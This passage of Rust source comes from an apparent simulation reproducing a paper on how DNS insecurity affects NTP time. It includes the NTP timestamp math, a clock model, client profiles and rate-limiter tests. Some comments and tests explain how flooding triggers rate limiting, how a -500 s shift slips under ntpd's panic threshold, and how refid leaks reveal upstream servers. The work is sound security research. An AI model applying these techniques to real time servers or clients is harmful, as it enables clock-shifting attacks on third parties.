            }
            _ => {}
        }
    }
}

/// A server whose refid leaks its upstream (stratum 2 with upstream `addr`),
/// used in tests of the P2 discovery path.
pub fn stratum2_with_upstream(upstream: Ipv4Addr) -> NtpServer {
    NtpServer { ref_id: upstream.octets(), ..NtpServer::honest() }
}

#[cfg(test)]
mod tests {
    use super::*;

    const CLIENT: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 7);

    fn at(secs_milli: (u64, u64)) -> SimTime {
        SimTime::from_nanos(secs_milli.0 * 1_000_000_000 + secs_milli.1 * 1_000_000)
    }

    #[test]
    fn limiter_allows_normal_polling() {
        let mut server = NtpServer::honest().with_rate_limit(RateLimitConfig::kod());
        // 64-second polls never trip the limiter.
        for i in 0..20 {
            let verdict = server.limiter_verdict(SimTime::from_secs(i * 64), CLIENT);
            assert_eq!(verdict, Verdict::Answer, "poll {i}");
        }
    }

    #[test]
    fn flood_trips_limiter_then_kod_then_silence() {
        let mut server = NtpServer::honest().with_rate_limit(RateLimitConfig::kod());
        let mut verdicts = Vec::new();
        for i in 0..20u64 {
            verdicts.push(server.limiter_verdict(at((0, i * 100)), CLIENT));
        }
        let first_kod = verdicts.iter().position(|v| *v == Verdict::Kod);
        assert!(first_kod.is_some(), "KoD must eventually fire: {verdicts:?}");
        let after = &verdicts[first_kod.unwrap() + 1..];
        assert!(after.iter().all(|v| *v == Verdict::Drop), "silence after KoD");
    }

    #[test]
    fn silent_limiter_never_kods() {
        let mut server = NtpServer::honest().with_rate_limit(RateLimitConfig::silent());
        let mut any_kod = false;
        for i in 0..20u64 {
            any_kod |= server.limiter_verdict(at((0, i * 100)), CLIENT) == Verdict::Kod;
        }
        assert!(!any_kod);
        assert!(server.is_limiting(at((0, 2000)), CLIENT));
    }

    #[test]
    fn limited_client_blocks_even_slow_polls_while_flooded() {
        // The victim's legitimate 64 s polls are dropped while the attacker
        // keeps the score pinned with a continuing flood.
        let mut server = NtpServer::honest().with_rate_limit(RateLimitConfig::silent());
        // Flood: 50 packets, 200 ms apart.
        for i in 0..50u64 {
            let _ = server.limiter_verdict(at((0, i * 200)), CLIENT);
        }
        // Victim's real poll at t=12 s — cooldown (60 s) still active.
        let verdict = server.limiter_verdict(SimTime::from_secs(12), CLIENT);
        assert_eq!(verdict, Verdict::Drop);
    }

    #[test]
    fn cooldown_forgives_after_quiet_period() {
        let mut server = NtpServer::honest().with_rate_limit(RateLimitConfig::silent());
        for i in 0..50u64 {
            let _ = server.limiter_verdict(at((0, i * 200)), CLIENT);
        }
        // 10 minutes later the client is forgiven.
        let verdict = server.limiter_verdict(SimTime::from_secs(600), CLIENT);
        assert_eq!(verdict, Verdict::Answer);
    }

    #[test]
    fn scanner_pattern_first_half_vs_second_half() {
        // The paper's §VII-A methodology: 64 queries at 1 Hz; rate limiting
        // shows up as ≥8 more responses in the first half than the second.
        let mut server = NtpServer::honest().with_rate_limit(RateLimitConfig {
            cooldown: SimDuration::from_secs(120),
            ..RateLimitConfig::kod()
        });
        let mut first = 0;
        let mut second = 0;
        for i in 0..64u64 {
            let v = server.limiter_verdict(SimTime::from_secs(i), CLIENT);
            let answered = v == Verdict::Answer;
            if i < 32 {
                first += i32::from(answered);
            } else {
                second += i32::from(answered);
            }
        }
        assert!(first - second > 8, "first={first} second={second}");
    }

    #[test]
    fn limiter_state_is_per_client() {
        let other = Ipv4Addr::new(10, 0, 0, 8);
        let mut server = NtpServer::honest().with_rate_limit(RateLimitConfig::silent());
        for i in 0..50u64 {
            let _ = server.limiter_verdict(at((0, i * 100)), CLIENT);
        }
        assert_eq!(server.limiter_verdict(SimTime::from_secs(6), other), Verdict::Answer);
    }
}
