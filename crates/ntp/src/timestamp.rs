//! NTP timestamps: 64-bit fixed point (32-bit seconds since 1900-01-01,
//! 32-bit fraction), and their mapping onto simulated time.
//!
//! The simulation fixes an epoch: `SimTime::ZERO` corresponds to NTP second
//! [`SIM_NTP_EPOCH`]. "True time" is `epoch + sim_now`; clocks are offsets
//! against it.

use core::fmt;
use core::ops::{Add, Sub};

use netsim::time::SimTime;

/// The NTP second corresponding to `SimTime::ZERO` (an arbitrary instant in
/// the NTP era-0 range, ≈ 2021).
pub const SIM_NTP_EPOCH: u64 = 3_850_000_000;

/// A 64-bit NTP timestamp.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default)]
pub struct NtpTimestamp(u64);

/// A signed time difference with nanosecond resolution.
///
/// Offsets in the reproduction reach ±500 s; an `i64` of nanoseconds covers
/// ±292 years.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default)]
pub struct NtpDuration {
    nanos: i64,
}

impl NtpTimestamp {
    /// The zero timestamp (special "unknown" value on the wire).
    pub const ZERO: NtpTimestamp = NtpTimestamp(0);

    /// Builds from the raw 64-bit wire value.
    pub const fn from_bits(bits: u64) -> Self {
        NtpTimestamp(bits)
    }

    /// The raw 64-bit wire value.
    pub const fn to_bits(self) -> u64 {
        self.0
    }

    /// Builds from whole NTP seconds and a fraction in nanoseconds.
    pub fn from_secs_nanos(secs: u64, nanos: u32) -> Self {
        let frac = (u64::from(nanos) << 32) / 1_000_000_000;
        NtpTimestamp((secs << 32) | frac)
    }

    /// Whole NTP seconds.
    pub fn secs(self) -> u64 {
        self.0 >> 32
    }

    /// Sub-second part in nanoseconds.
    pub fn subsec_nanos(self) -> u32 {
        (((self.0 & 0xFFFF_FFFF) * 1_000_000_000) >> 32) as u32
    }

    /// The "true time" timestamp at simulated instant `now`.
    pub fn at_sim_time(now: SimTime) -> Self {
        let total_nanos = now.as_nanos();
        NtpTimestamp::from_secs_nanos(
            SIM_NTP_EPOCH + total_nanos / 1_000_000_000,
            (total_nanos % 1_000_000_000) as u32,
        )
    }

    /// Total nanoseconds since the NTP era origin (for differencing).
    fn total_nanos(self) -> i128 {
        i128::from(self.secs()) * 1_000_000_000 + i128::from(self.subsec_nanos())
    }
}

impl NtpDuration {
    /// The zero duration.
    pub const ZERO: NtpDuration = NtpDuration { nanos: 0 };

    /// Builds from signed nanoseconds.
    pub const fn from_nanos(nanos: i64) -> Self {
        NtpDuration { nanos }
    }

    /// Builds from signed seconds.
    pub const fn from_secs(secs: i64) -> Self {
        NtpDuration { nanos: secs * 1_000_000_000 }
    }

    /// Builds from fractional seconds.
    ///
    /// # Panics
    ///
    /// Panics if `secs` is not finite.
    pub fn from_secs_f64(secs: f64) -> Self {
        assert!(secs.is_finite(), "duration must be finite");
        NtpDuration { nanos: (secs * 1e9).round() as i64 }
    }

    /// Signed nanoseconds.
    pub const fn as_nanos(self) -> i64 {
        self.nanos
    }

    /// Signed fractional seconds.
    pub fn as_secs_f64(self) -> f64 {
        self.nanos as f64 / 1e9
    }

    /// Absolute value.
    pub fn abs(self) -> NtpDuration {
        NtpDuration { nanos: self.nanos.saturating_abs() }
    }

    /// Halves the duration (used by the offset formula).
    pub fn half(self) -> NtpDuration {
        NtpDuration { nanos: self.nanos / 2 }
    }
}

impl Sub for NtpTimestamp {
    type Output = NtpDuration;

    fn sub(self, rhs: NtpTimestamp) -> NtpDuration {
        let diff = self.total_nanos() - rhs.total_nanos();
        NtpDuration { nanos: diff.clamp(i64::MIN as i128, i64::MAX as i128) as i64 }
    }
}

impl Add<NtpDuration> for NtpTimestamp {
    type Output = NtpTimestamp;

    fn add(self, rhs: NtpDuration) -> NtpTimestamp {
        let total = self.total_nanos() + i128::from(rhs.nanos);
        let total = total.max(0) as u128;
        NtpTimestamp::from_secs_nanos(
            (total / 1_000_000_000) as u64,
            (total % 1_000_000_000) as u32,
        )
    }
}

impl Add for NtpDuration {
    type Output = NtpDuration;

    fn add(self, rhs: NtpDuration) -> NtpDuration {
        NtpDuration { nanos: self.nanos.saturating_add(rhs.nanos) }
    }
}

impl Sub for NtpDuration {
    type Output = NtpDuration;

    fn sub(self, rhs: NtpDuration) -> NtpDuration {
        NtpDuration { nanos: self.nanos.saturating_sub(rhs.nanos) }
    }
}

impl fmt::Display for NtpTimestamp {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}.{:09}", self.secs(), self.subsec_nanos())
    }
}

impl fmt::Display for NtpDuration {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{:+.6}s", self.as_secs_f64())
    }
}

/// Computes the standard NTP offset and delay from the four timestamps
/// (RFC 5905 §8): `t1` client transmit, `t2` server receive, `t3` server
/// transmit, `t4` client receive.
///
/// offset = ((t2 − t1) + (t3 − t4)) / 2, delay = (t4 − t1) − (t3 − t2).
pub fn offset_and_delay(
    t1: NtpTimestamp,
    t2: NtpTimestamp,
    t3: NtpTimestamp,
    t4: NtpTimestamp,
) -> (NtpDuration, NtpDuration) {
    let offset = ((t2 - t1) + (t3 - t4)).half();
    let delay = (t4 - t1) - (t3 - t2);
    (offset, delay)
}

#[cfg(test)]
mod tests {
    use super::*;
    use netsim::time::SimDuration;

    #[test]
    fn secs_nanos_round_trip() {
        let ts = NtpTimestamp::from_secs_nanos(SIM_NTP_EPOCH, 500_000_000);
        assert_eq!(ts.secs(), SIM_NTP_EPOCH);
        let err = i64::from(ts.subsec_nanos()) - 500_000_000;
        assert!(err.abs() < 2, "fraction conversion error {err} ns");
    }

    #[test]
    fn sim_time_mapping() {
        let t = SimTime::ZERO + SimDuration::from_millis(1_500);
        let ts = NtpTimestamp::at_sim_time(t);
        assert_eq!(ts.secs(), SIM_NTP_EPOCH + 1);
        assert!((i64::from(ts.subsec_nanos()) - 500_000_000).abs() < 2);
    }

    #[test]
    fn subtraction_gives_signed_difference() {
        let a = NtpTimestamp::from_secs_nanos(100, 0);
        let b = NtpTimestamp::from_secs_nanos(600, 0);
        assert_eq!((b - a).as_secs_f64(), 500.0);
        assert_eq!((a - b).as_secs_f64(), -500.0);
    }

    #[test]
    fn add_duration_round_trips() {
        let a = NtpTimestamp::from_secs_nanos(1000, 250_000_000);
        let d = NtpDuration::from_secs_f64(-500.25);
        let b = a + d;
        assert!(((b - a).as_secs_f64() - (-500.25)).abs() < 1e-6);
    }

    #[test]
    fn offset_formula_symmetric_path() {
        // Client at true time, server shifted by -500 s, symmetric 50 ms path.
        let t1 = NtpTimestamp::from_secs_nanos(SIM_NTP_EPOCH, 0);
        let t2 = t1 + NtpDuration::from_secs_f64(-500.0 + 0.05);
        let t3 = t2 + NtpDuration::from_secs_f64(0.001);
        let t4 = t1 + NtpDuration::from_secs_f64(0.101);
        let (offset, delay) = offset_and_delay(t1, t2, t3, t4);
        assert!((offset.as_secs_f64() + 500.0).abs() < 1e-6, "offset {offset}");
        assert!((delay.as_secs_f64() - 0.1).abs() < 1e-6, "delay {delay}");
    }

    #[test]
    fn wire_bits_round_trip() {
        let ts = NtpTimestamp::from_secs_nanos(3_850_000_123, 999_999_999);
        assert_eq!(NtpTimestamp::from_bits(ts.to_bits()), ts);
    }
}
