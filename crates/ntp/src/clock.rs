//! The system-clock model disciplined by NTP clients.
//!
//! A clock is an offset (and optional drift) against the simulation's true
//! time. The attack's observable — "did the victim's clock shift by
//! −500 s?" — is read straight off [`SystemClock::offset_from_true`].

use netsim::time::SimTime;

use crate::timestamp::{NtpDuration, NtpTimestamp};

/// How a clock correction was applied.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ClockAdjustment {
    /// Instantaneous step (offset exceeded the step threshold).
    Stepped,
    /// Gradual slew (modelled as an immediate small correction).
    Slewed,
    /// Rejected: offset exceeded the panic threshold at run time.
    PanicRejected,
}

/// A simulated system clock.
#[derive(Debug, Clone)]
pub struct SystemClock {
    /// Current offset from true time (clock − true), nanoseconds.
    offset_ns: i64,
    /// Frequency error in parts per million (applied linearly).
    drift_ppm: f64,
    /// Step threshold: offsets beyond this are stepped (ntpd: 128 ms).
    pub step_threshold: NtpDuration,
    /// Panic threshold: run-time corrections beyond this are refused
    /// (ntpd: 1000 s). `None` disables the check (boot with `-g`).
    pub panic_threshold: Option<NtpDuration>,
    /// History of applied adjustments: (when, new offset seconds).
    pub adjustments: Vec<(SimTime, f64)>,
}

impl SystemClock {
    /// A clock starting in sync with true time.
    pub fn new() -> Self {
        SystemClock {
            offset_ns: 0,
            drift_ppm: 0.0,
            step_threshold: NtpDuration::from_nanos(128_000_000),
            panic_threshold: Some(NtpDuration::from_secs(1000)),
            adjustments: Vec::new(),
        }
    }

    /// A clock starting `offset` away from true time (e.g. a dead RTC
    /// battery at boot).
    pub fn with_initial_offset(offset: NtpDuration) -> Self {
        SystemClock { offset_ns: offset.as_nanos(), ..SystemClock::new() }
    }

    /// Sets the frequency error.
    pub fn set_drift_ppm(&mut self, ppm: f64) {
        self.drift_ppm = ppm;
    }

    /// The clock's reading at simulated instant `now`.
    pub fn now(&self, now: SimTime) -> NtpTimestamp {
        let drift_ns = (now.as_nanos() as f64 * self.drift_ppm / 1e6) as i64;
        NtpTimestamp::at_sim_time(now) + NtpDuration::from_nanos(self.offset_ns + drift_ns)
    }

    /// Current offset from true time.
    pub fn offset_from_true(&self, now: SimTime) -> NtpDuration {
        let drift_ns = (now.as_nanos() as f64 * self.drift_ppm / 1e6) as i64;
        NtpDuration::from_nanos(self.offset_ns + drift_ns)
    }

    /// Applies a measured offset (server − client): step if beyond the step
    /// threshold, slew otherwise, refuse if beyond the panic threshold and
    /// `at_boot` is false.
    pub fn apply_offset(
        &mut self,
        now: SimTime,
        offset: NtpDuration,
        at_boot: bool,
    ) -> ClockAdjustment {
        if !at_boot {
            if let Some(panic) = self.panic_threshold {
                if offset.abs() > panic {
                    return ClockAdjustment::PanicRejected;
                }
            }
        }
        self.offset_ns = self.offset_ns.saturating_add(offset.as_nanos());
        self.adjustments.push((now, self.offset_from_true(now).as_secs_f64()));
        if offset.abs() > self.step_threshold {
            ClockAdjustment::Stepped
        } else {
            ClockAdjustment::Slewed
        }
    }
}

impl Default for SystemClock {
    fn default() -> Self {
        SystemClock::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn synced_clock_reads_true_time() {
        let clock = SystemClock::new();
        let t = SimTime::from_secs(100);
        assert_eq!(clock.now(t), NtpTimestamp::at_sim_time(t));
        assert_eq!(clock.offset_from_true(t), NtpDuration::ZERO);
    }

    #[test]
    fn step_applies_and_records() {
        let mut clock = SystemClock::new();
        let t = SimTime::from_secs(10);
        let adj = clock.apply_offset(t, NtpDuration::from_secs(-500), true);
        assert_eq!(adj, ClockAdjustment::Stepped);
        assert_eq!(clock.offset_from_true(t).as_secs_f64(), -500.0);
        assert_eq!(clock.adjustments.len(), 1);
    }

    #[test]
    fn small_offset_slews() {
        let mut clock = SystemClock::new();
        let adj = clock.apply_offset(SimTime::ZERO, NtpDuration::from_nanos(50_000_000), false);
        assert_eq!(adj, ClockAdjustment::Slewed);
    }

    #[test]
    fn panic_threshold_blocks_runtime_megashift() {
        let mut clock = SystemClock::new();
        let adj = clock.apply_offset(SimTime::ZERO, NtpDuration::from_secs(5000), false);
        assert_eq!(adj, ClockAdjustment::PanicRejected);
        assert_eq!(clock.offset_from_true(SimTime::ZERO), NtpDuration::ZERO);
        // The same shift at boot is accepted (ntpd -g semantics).
        let adj = clock.apply_offset(SimTime::ZERO, NtpDuration::from_secs(5000), true);
        assert_eq!(adj, ClockAdjustment::Stepped);
    }

    #[test]
    fn paper_shift_passes_panic_threshold_at_runtime() {
        // The paper shifts by -500 s, below ntpd's 1000 s panic threshold —
        // the reason the attack works at run time.
        let mut clock = SystemClock::new();
        let adj = clock.apply_offset(SimTime::ZERO, NtpDuration::from_secs(-500), false);
        assert_eq!(adj, ClockAdjustment::Stepped);
    }

    #[test]
    fn drift_accumulates() {
        let mut clock = SystemClock::new();
        clock.set_drift_ppm(100.0); // 100 µs/s
        let t = SimTime::from_secs(1000);
        let off = clock.offset_from_true(t).as_secs_f64();
        assert!((off - 0.1).abs() < 1e-9, "drift offset {off}");
    }

    #[test]
    fn boot_offset_modelled() {
        let clock = SystemClock::with_initial_offset(NtpDuration::from_secs(-3600));
        assert_eq!(clock.offset_from_true(SimTime::ZERO).as_secs_f64(), -3600.0);
    }
}
