//! # ntp — NTP/SNTP protocol, servers and behavioural client models
//!
//! The NTP substrate of the `timeshift` reproduction of *"The Impact of DNS
//! Insecurity on Time"* (DSN 2020):
//!
//! * [`timestamp`] — 64-bit NTP timestamps and the RFC 5905 offset/delay
//!   formula;
//! * [`packet`] — the 48-byte mode-3/4 wire format, Kiss-o'-Death, the
//!   refid upstream leak and the mode-6 config interface;
//! * [`clock`] — the disciplined system clock (step/slew/panic semantics);
//! * [`server`] — honest and attacker-controlled servers with the ntpd-style
//!   rate limiter the run-time attack abuses;
//! * [`select`] — majority-cluster clock selection;
//! * [`client`] — the seven client implementations of the paper's Table I.
//!
//! ```
//! use ntp::prelude::*;
//!
//! // Every Table I client model can be instantiated from its kind:
//! for kind in ClientKind::all() {
//!     let profile = ClientProfile::for_kind(kind);
//!     assert!(profile.vulnerable_boot_time());
//! }
//! ```

#![warn(missing_docs)]

pub mod client;
pub mod clock;
pub mod packet;
pub mod select;
pub mod server;
pub mod timestamp;

/// Commonly used types.
pub mod prelude {
    pub use crate::client::{Association, ClientKind, ClientProfile, ClientStats, NtpClient};
    pub use crate::clock::{ClockAdjustment, SystemClock};
    pub use crate::packet::{peek_mode, ControlMessage, NtpMode, NtpPacket, KOD_RATE, NTP_PORT};
    pub use crate::select::{default_window, select, OffsetSample, Selection};
    pub use crate::server::{stratum2_with_upstream, NtpServer, RateLimitConfig, ServerStats};
    pub use crate::timestamp::{offset_and_delay, NtpDuration, NtpTimestamp, SIM_NTP_EPOCH};
}
