//! Behavioural models of the NTP clients evaluated in Table I of the paper:
//! ntpd, chrony, openntpd (NTP) and ntpdate, Android SNTP, ntpclient,
//! systemd-timesyncd (SNTP).
//!
//! One engine ([`NtpClient`]) implements the shared machinery — DNS lookups
//! through a resolver, associations with reachability registers, polling,
//! offset computation, majority selection, clock stepping — and a
//! [`ClientProfile`] encodes each implementation's documented differences:
//! when DNS is queried (boot only, on association loss, per sync), how many
//! associations are kept, how quickly unreachable servers are abandoned,
//! and whether the client also acts as a server (leaking its upstream in
//! the refid, the P2 discovery channel).

use std::collections::VecDeque;
use std::net::Ipv4Addr;

use dns::name::Name;
use dns::stub::StubResolver;
use netsim::prelude::*;

use crate::clock::{ClockAdjustment, SystemClock};
use crate::packet::{peek_mode, NtpMode, NtpPacket, NTP_PORT};
use crate::select::{default_window, select, OffsetSample};
use crate::timestamp::{offset_and_delay, NtpTimestamp};

/// The client implementations of Table I.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum ClientKind {
    /// Reference ntpd with pool associations.
    Ntpd,
    /// chrony.
    Chrony,
    /// OpenNTPD.
    OpenNtpd,
    /// ntpdate (one-shot, typically from cron).
    Ntpdate,
    /// systemd-timesyncd (SNTP with a cached fallback list).
    SystemdTimesyncd,
    /// Android's built-in SNTP client (DNS lookup per sync).
    AndroidSntp,
    /// ntpclient (SNTP, resolves once, never again).
    NtpClientTiny,
}

impl ClientKind {
    /// All seven kinds, in Table I order.
    pub fn all() -> [ClientKind; 7] {
        [
            ClientKind::Ntpd,
            ClientKind::OpenNtpd,
            ClientKind::Chrony,
            ClientKind::Ntpdate,
            ClientKind::AndroidSntp,
            ClientKind::NtpClientTiny,
            ClientKind::SystemdTimesyncd,
        ]
    }

    /// Display name.
    pub fn name(self) -> &'static str {
        match self {
            ClientKind::Ntpd => "NTPd",
            ClientKind::Chrony => "chrony",
            ClientKind::OpenNtpd => "openntpd",
            ClientKind::Ntpdate => "ntpdate",
            ClientKind::SystemdTimesyncd => "systemd",
            ClientKind::AndroidSntp => "Android",
            ClientKind::NtpClientTiny => "ntpclient",
        }
    }

    /// Share of `pool.ntp.org` clients per Rytilahti et al. (paper Table I).
    pub fn pool_share(self) -> Option<f64> {
        match self {
            ClientKind::Ntpd => Some(0.264),
            ClientKind::OpenNtpd => Some(0.044),
            ClientKind::Chrony => Some(0.048),
            ClientKind::Ntpdate => Some(0.200),
            ClientKind::AndroidSntp => Some(0.140),
            ClientKind::NtpClientTiny => Some(0.012),
            ClientKind::SystemdTimesyncd => None, // "not listed"
        }
    }
}

/// Behaviour parameters of one client implementation.
#[derive(Debug, Clone)]
pub struct ClientProfile {
    /// Which implementation this models.
    pub kind: ClientKind,
    /// The pool domain looked up via DNS.
    pub pool_domain: Name,
    /// Poll interval per association.
    pub poll_interval: SimDuration,
    /// Consecutive unanswered polls before an association is abandoned.
    pub unreach_polls: u32,
    /// Maximum simultaneous associations.
    pub max_associations: usize,
    /// Re-query DNS when live associations drop below this (ntpd
    /// `NTP_MINCLOCK`).
    pub min_associations: usize,
    /// Whether DNS is re-queried during run time at all.
    pub runtime_dns: bool,
    /// OpenNTPD-style: re-resolve only after a full outage of this length.
    pub reresolve_on_outage: Option<SimDuration>,
    /// Android-style: a DNS lookup precedes every sync.
    pub dns_per_sync: bool,
    /// systemd-timesyncd-style: walk the cached address list from the last
    /// DNS response before re-querying.
    pub cache_dns_list: bool,
    /// ntpdate-style: synchronise once and stop.
    pub one_shot: bool,
    /// Whether the client answers mode-3 queries (ntpd default), leaking
    /// its system peer in the refid — attack scenario P2's channel.
    pub acts_as_server: bool,
    /// Interval between syncs for `dns_per_sync` clients.
    pub sync_interval: SimDuration,
}

impl ClientProfile {
    fn base(kind: ClientKind) -> Self {
        ClientProfile {
            kind,
            pool_domain: "pool.ntp.org".parse().expect("static name"),
            poll_interval: SimDuration::from_secs(64),
            unreach_polls: 8,
            max_associations: 4,
            min_associations: 1,
            runtime_dns: false,
            reresolve_on_outage: None,
            dns_per_sync: false,
            cache_dns_list: false,
            one_shot: false,
            acts_as_server: false,
            sync_interval: SimDuration::from_secs(64),
        }
    }

    /// ntpd: 6 associations (4 pool + margin up to MAXCLOCK), MINCLOCK 3,
    /// 8-bit reach register at 64 s polls, acts as a server by default.
    pub fn ntpd() -> Self {
        ClientProfile {
            max_associations: 6,
            min_associations: 3,
            runtime_dns: true,
            acts_as_server: true,
            ..ClientProfile::base(ClientKind::Ntpd)
        }
    }

    /// chrony: 4 sources, replaces offline sources via DNS; converged poll
    /// interval is longer (256 s), making run-time attacks slower
    /// (Table II).
    pub fn chrony() -> Self {
        ClientProfile {
            max_associations: 4,
            min_associations: 3,
            runtime_dns: true,
            poll_interval: SimDuration::from_secs(256),
            unreach_polls: 10,
            ..ClientProfile::base(ClientKind::Chrony)
        }
    }

    /// OpenNTPD: resolves at start; no run-time DNS on association loss,
    /// but re-resolves after a prolonged total outage.
    pub fn openntpd() -> Self {
        ClientProfile {
            max_associations: 4,
            min_associations: 1,
            runtime_dns: false,
            reresolve_on_outage: Some(SimDuration::from_mins(60)),
            poll_interval: SimDuration::from_secs(90),
            ..ClientProfile::base(ClientKind::OpenNtpd)
        }
    }

    /// ntpdate: one shot — resolve, sync, exit.
    pub fn ntpdate() -> Self {
        ClientProfile { one_shot: true, ..ClientProfile::base(ClientKind::Ntpdate) }
    }

    /// systemd-timesyncd: SNTP, single association, walks the 4-address
    /// cached list before re-querying DNS.
    pub fn systemd_timesyncd() -> Self {
        ClientProfile {
            max_associations: 1,
            runtime_dns: true,
            cache_dns_list: true,
            unreach_polls: 3,
            poll_interval: SimDuration::from_secs(32),
            ..ClientProfile::base(ClientKind::SystemdTimesyncd)
        }
    }

    /// Android SNTP: fresh DNS lookup for every sync.
    pub fn android() -> Self {
        ClientProfile {
            max_associations: 1,
            dns_per_sync: true,
            runtime_dns: true,
            sync_interval: SimDuration::from_secs(64),
            ..ClientProfile::base(ClientKind::AndroidSntp)
        }
    }

    /// ntpclient: SNTP, resolves once at start, never re-resolves.
    pub fn ntpclient() -> Self {
        ClientProfile { max_associations: 1, ..ClientProfile::base(ClientKind::NtpClientTiny) }
    }

    /// The profile for a [`ClientKind`].
    pub fn for_kind(kind: ClientKind) -> Self {
        match kind {
            ClientKind::Ntpd => ClientProfile::ntpd(),
            ClientKind::Chrony => ClientProfile::chrony(),
            ClientKind::OpenNtpd => ClientProfile::openntpd(),
            ClientKind::Ntpdate => ClientProfile::ntpdate(),
            ClientKind::SystemdTimesyncd => ClientProfile::systemd_timesyncd(),
            ClientKind::AndroidSntp => ClientProfile::android(),
            ClientKind::NtpClientTiny => ClientProfile::ntpclient(),
        }
    }

    /// Table I column: vulnerable to the boot-time attack (all are; there
    /// is no mitigation for the very first lookup).
    pub fn vulnerable_boot_time(&self) -> bool {
        true
    }

    /// Table I column: vulnerable to the run-time attack — the client can
    /// be driven to a *prompt* DNS re-query by breaking associations.
    /// OpenNTPD's slow outage re-resolution and ntpdate's one-shot nature
    /// don't count (matching the paper's classification).
    pub fn vulnerable_run_time(&self) -> Option<bool> {
        if self.one_shot {
            return None; // "n/a" in the paper's table
        }
        Some(self.runtime_dns && (self.kind != ClientKind::OpenNtpd))
    }
}

/// One server association.
#[derive(Debug, Clone)]
pub struct Association {
    /// Server address.
    pub addr: Ipv4Addr,
    /// 8-bit reachability shift register (bit set per answered poll).
    pub reach: u8,
    /// Consecutive unanswered polls.
    pub misses: u32,
    /// Next scheduled poll.
    pub next_poll: SimTime,
    /// Outstanding request's transmit timestamp (origin check).
    pub pending_t1: Option<NtpTimestamp>,
    /// Most recent offset sample.
    pub sample: Option<OffsetSample>,
    /// Time of the most recent sample.
    pub sample_at: Option<SimTime>,
    /// A KoD was received from this server.
    pub kod: bool,
    /// Declared unreachable and demobilised.
    pub dead: bool,
}

impl Association {
    fn new(addr: Ipv4Addr, first_poll: SimTime) -> Self {
        Association {
            addr,
            reach: 0,
            misses: 0,
            next_poll: first_poll,
            pending_t1: None,
            sample: None,
            sample_at: None,
            kod: false,
            dead: false,
        }
    }
}

/// Counters exposed by an [`NtpClient`].
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct ClientStats {
    /// DNS lookups issued.
    pub dns_lookups: u64,
    /// NTP polls sent.
    pub polls_sent: u64,
    /// Valid responses received.
    pub responses: u64,
    /// KoD packets received.
    pub kods_received: u64,
    /// Clock steps applied.
    pub steps: u64,
    /// Associations demobilised as unreachable.
    pub assocs_lost: u64,
    /// Responses discarded by the origin-timestamp check.
    pub origin_check_failures: u64,
}

const TICK: TimerToken = 1;
const TICK_INTERVAL: SimDuration = SimDuration::from_secs(1);

/// The NTP client host: one engine, seven behaviour profiles.
#[derive(Debug)]
pub struct NtpClient {
    profile: ClientProfile,
    /// The disciplined clock (public: experiments read the offset).
    pub clock: SystemClock,
    stub: StubResolver,
    assocs: Vec<Association>,
    cached_addrs: VecDeque<Ipv4Addr>,
    synced_once: bool,
    done: bool,
    last_dns: Option<SimTime>,
    outage_since: Option<SimTime>,
    next_sync: SimTime,
    system_peer: Option<Ipv4Addr>,
    /// Counters.
    pub stats: ClientStats,
}

impl NtpClient {
    /// Creates a client using `resolver` for DNS.
    pub fn new(profile: ClientProfile, resolver: Ipv4Addr) -> Self {
        NtpClient {
            clock: SystemClock::new(),
            stub: StubResolver::new(resolver, 5353),
            assocs: Vec::new(),
            cached_addrs: VecDeque::new(),
            synced_once: false,
            done: false,
            last_dns: None,
            outage_since: None,
            next_sync: SimTime::ZERO,
            system_peer: None,
            profile,
            stats: ClientStats::default(),
        }
    }

    /// The behaviour profile.
    pub fn profile(&self) -> &ClientProfile {
        &self.profile
    }

    /// Current clock offset from true time, in seconds.
    pub fn offset_secs(&self, now: SimTime) -> f64 {
        self.clock.offset_from_true(now).as_secs_f64()
    }

    /// Live (mobilised, reachable-or-probing) associations.
    pub fn live_servers(&self) -> Vec<Ipv4Addr> {
        self.assocs.iter().filter(|a| !a.dead).map(|a| a.addr).collect()
    }

    /// The currently selected upstream, if any.
    pub fn system_peer(&self) -> Option<Ipv4Addr> {
        self.system_peer
    }

    /// True once the one-shot client has finished.
    pub fn finished(&self) -> bool {
        self.done
    }

    /// Time of the first clock step beyond 1 s, if any — the experiments'
    /// "attack landed" marker.
    pub fn first_large_step(&self) -> Option<(SimTime, f64)> {
        self.clock.adjustments.iter().find(|(_, off)| off.abs() > 1.0).copied()
    }

    fn issue_dns(&mut self, ctx: &mut Ctx<'_>) {
        // At most one DNS query per 10 s, mirroring resolver-side caching
        // of the client libraries.
        if let Some(last) = self.last_dns {
            if ctx.now().saturating_since(last) < SimDuration::from_secs(10) {
                return;
            }
        }
        self.last_dns = Some(ctx.now());
        self.stats.dns_lookups += 1;
        let domain = self.profile.pool_domain.clone();
        self.stub.query_a(ctx, &domain);
    }

    fn mobilize(&mut self, ctx: &mut Ctx<'_>, addrs: &[Ipv4Addr]) {
        let now = ctx.now();
        for &addr in addrs {
            let live = self.assocs.iter().filter(|a| !a.dead).count();
            if live >= self.profile.max_associations {
                break;
            }
            if self.assocs.iter().any(|a| !a.dead && a.addr == addr) {
                continue;
            }
            self.assocs.push(Association::new(addr, now));
        }
        self.assocs.retain(|a| !a.dead);
    }

    fn poll(&mut self, ctx: &mut Ctx<'_>, idx: usize) {
        let now = ctx.now();
        let t1 = self.clock.now(now);
        let assoc = &mut self.assocs[idx];
        assoc.reach <<= 1;
        if assoc.pending_t1.take().is_some() {
            assoc.misses += 1;
        }
        assoc.pending_t1 = Some(t1);
        assoc.next_poll = now + self.profile.poll_interval;
        let addr = assoc.addr;
        self.stats.polls_sent += 1;
        let req = NtpPacket::client_request(t1);
        ctx.send_udp(addr, NTP_PORT, NTP_PORT, req.encode());
    }

    fn check_unreachable(&mut self) {
        let limit = self.profile.unreach_polls;
        let mut lost = 0;
        for assoc in &mut self.assocs {
            if !assoc.dead && (assoc.misses >= limit || assoc.kod) {
                assoc.dead = true;
                lost += 1;
            }
        }
        self.stats.assocs_lost += lost;
        if self.system_peer.is_some()
